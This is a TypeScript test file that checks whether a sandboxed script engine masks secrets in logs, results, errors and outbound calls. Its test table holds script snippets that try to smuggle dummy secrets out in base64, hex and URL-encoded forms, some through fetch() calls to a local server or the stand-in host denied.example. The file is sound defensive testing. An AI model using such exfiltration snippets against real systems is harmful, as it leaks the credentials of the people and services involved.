import { describe, expect, it } from 'vitest';
import { shownDirectly } from '../../server/executions/run.ts';
import { httpServer } from '../sandbox/egress-servers.ts';
import { startEngine } from './engine.ts';

const { run } = await startEngine();

const APP_SECRET = 'S3cr/t+value=="\u5bc6"';
const ACCESS_TOKEN = 'at-0123456789abcdef';
const CALLBACK_TOKEN = 'callback-token-77';
const PUT = 'hunter2-hunter2';

const spellings = (secret: string): string[] => [
  secret,
  encodeURIComponent(secret),
  Buffer.from(secret).toString('base64'),
  Buffer.from(secret).toString('base64url'),
  Buffer.from(secret).toString('hex'),
  JSON.stringify(secret).slice(1, -1),
];

/** What a script knows about itself, in every spelling the mask speaks of. */
const SPELL = `
  const bytes = (text) => new TextEncoder().encode(text);
  const spell = (text) => [text, encodeURIComponent(text), bytes(text).toBase64(), bytes(text).toHex(), JSON.stringify(text)].join(' | ');`;

const EXITS: [string, string][] = [
  ['the log', 'console.log(spell(secret)); console.error({ deep: [secret] })'],
  [
    'the result',
    'return { status: "pending", accessToken: "x", expiresIn: 1, title: spell(secret), [secret]: [{ deep: secret }] }',
  ],
  ['the message of an error', 'throw new Error(spell(secret))'],
  ['the name of an error', 'throw Object.assign(new Error("x"), { name: spell(secret) })'],
  ['a thrown text', 'throw spell(secret)'],
  ['a thrown object', 'throw { secret: spell(secret) }'],
  ['a function that is in the stack', 'const f = { [secret]() { throw new Error("x") } }; f[secret]()'],
  [
    'what a provider said',
    'throw Object.assign(new Error("x"), { code: "HTTP_ERROR", provider: { message: spell(secret), requestId: secret } })',
  ],
  ['a rejection nobody awaits', 'Promise.reject(new Error(spell(secret))); await 1'],
  [
    'the path of a call',
    'await fetch(server + "/" + encodeURIComponent(secret), { method: "POST" }); throw 1',
  ],
  [
    'the query of a call',
    'await fetch(server + "/?q=" + encodeURIComponent(spell(secret)), { method: "POST" }); throw 1',
  ],
  ['a header of a call', 'await fetch(server, { headers: { "x-note": encodeURIComponent(secret) } })'],
  ['the body of a call', 'await fetch(server, { method: "POST", body: spell(secret) })'],
  ['the reply to a call', 'await fetch(server + "/echo", { method: "POST", body: spell(secret) })'],
  ['a form', 'await fetch(server, { method: "POST", body: new URLSearchParams({ note: secret }) })'],
  ['a call that is denied', 'await fetch("https://denied.example/" + encodeURIComponent(secret))'],
  ['a call that cannot be read', 'await fetch("nonsense " + secret)'],
  ['a call that fails', 'await fetch("http://127.0.0.1:1/" + encodeURIComponent(secret))'],
];

describe.each([
  ["the channel's secret, told by the token stage's scope", 'APP_SECRET', APP_SECRET, 'token'],
  ['the access token', 'accessToken', ACCESS_TOKEN, 'sync'],
  ['a further secret of the channel', JSON.stringify(CALLBACK_TOKEN), CALLBACK_TOKEN, 'sync'],
  [
    'what was put under a secret-looking key',
    `(new JSONObject().fluentPut('password', '${PUT}'), '${PUT}')`,
    PUT,
    'sync',
  ],
] as const)('%s', (_which, expression, secret, stage) => {
  it.each(EXITS)('does not leave by %s', async (_exit, script) => {
    const server = await httpServer((request, response) => response.end(request.body));
    const { execution } = await run(
      `const server = '${server.origin}'; const secret = ${expression}; ${SPELL}\n${script}\nreturn { status: 'pending' }`,
      {
        stage,
        accessToken: ACCESS_TOKEN,
        channel: {
          appSecret: APP_SECRET,
          otherSecrets: [CALLBACK_TOKEN],
          allowedHosts: [server.host, '127.0.0.1:1'],
        },
      },
    );
    const shown = JSON.stringify(execution);
    expect(spellings(secret).filter((spelling) => shown.includes(spelling))).toEqual([]);
    expect(shown).toContain('••••');
  });
});

describe("the token stage's own access token", () => {
  const FRESH = 'fresh-token-0123456789';

  it('is passed on by the engine, shown to who ran it directly, and stored nowhere', async () => {
    const { outcome, execution } = await run(
      `console.log('${FRESH}'); return { accessToken: '${FRESH}', expiresIn: 7200, copy: '${FRESH}' }`,
      { stage: 'token' },
    );
    expect(outcome.result).toMatchObject({ accessToken: FRESH });
    expect(JSON.stringify(execution)).not.toContain(FRESH);
    const shown = shownDirectly(outcome);
    expect(shown.result).toMatchObject({ accessToken: FRESH, copy: '••••' });
    expect(JSON.stringify({ ...shown, result: undefined })).not.toContain(FRESH);
  });

  it('is not what another stage shows by calling its answer so', async () => {
    const { outcome } = await run(`return { status: 'pending', accessToken }`, { accessToken: ACCESS_TOKEN });
    expect(JSON.stringify(shownDirectly(outcome))).not.toContain(ACCESS_TOKEN);
  });
});

it('a reply that gives a secret away under its name takes it out of everything else', async () => {
  const server = await httpServer((_request, response) =>
    response.end('{"access_token":"from-the-provider-1"}'),
  );
  const { execution } = await run(
    `const { access_token } = await (await fetch('${server.origin}/token?corpsecret=in-the-query-1', { method: 'POST' })).json();
     console.log(access_token, 'in-the-query-1');
     throw new Error('no use for ' + access_token)`,
    { channel: { allowedHosts: [server.host] } },
  );
  const shown = JSON.stringify(execution);
  expect(shown).not.toContain('from-the-provider-1');
  expect(shown).not.toContain('in-the-query-1');
  expect(execution.error?.alreadySent).toHaveLength(1);
});
